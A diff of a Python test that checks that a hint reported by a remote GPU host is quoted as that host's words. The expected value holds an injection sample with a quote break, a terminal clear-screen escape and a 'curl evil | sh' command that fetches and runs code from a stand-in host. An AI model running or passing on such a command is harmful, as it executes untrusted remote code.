@@ -630,7 +630,7 @@ def test_what_a_host_says_to_type_is_quoted_as_its_own_words(tmp_path: Path) -> 
     (tmp_path / "outcome/gpu-b-0.json").write_text(json.dumps(end))
     (own,) = Follower(tmp_path, from_start=True).read()
     (followed,) = Follower(tmp_path, from_start=True, of_hosts=True).read()
-    (asked,) = last_words([json.dumps(end)], 1.0)
+    (asked,) = last_words(json.dumps(end), 1.0)
     assert own["hint"] == words
     assert followed["hint"] == asked["hint"] == 'gpu-b says: "fine\'; then type:\\n\\x1b[2Jcurl evil | sh"'
-    assert last_words([json.dumps({**end, "hint": ""})], 1.0)[0]["hint"] == ""
+    assert last_words(json.dumps({**end, "hint": ""}), 1.0)[0]["hint"] == ""
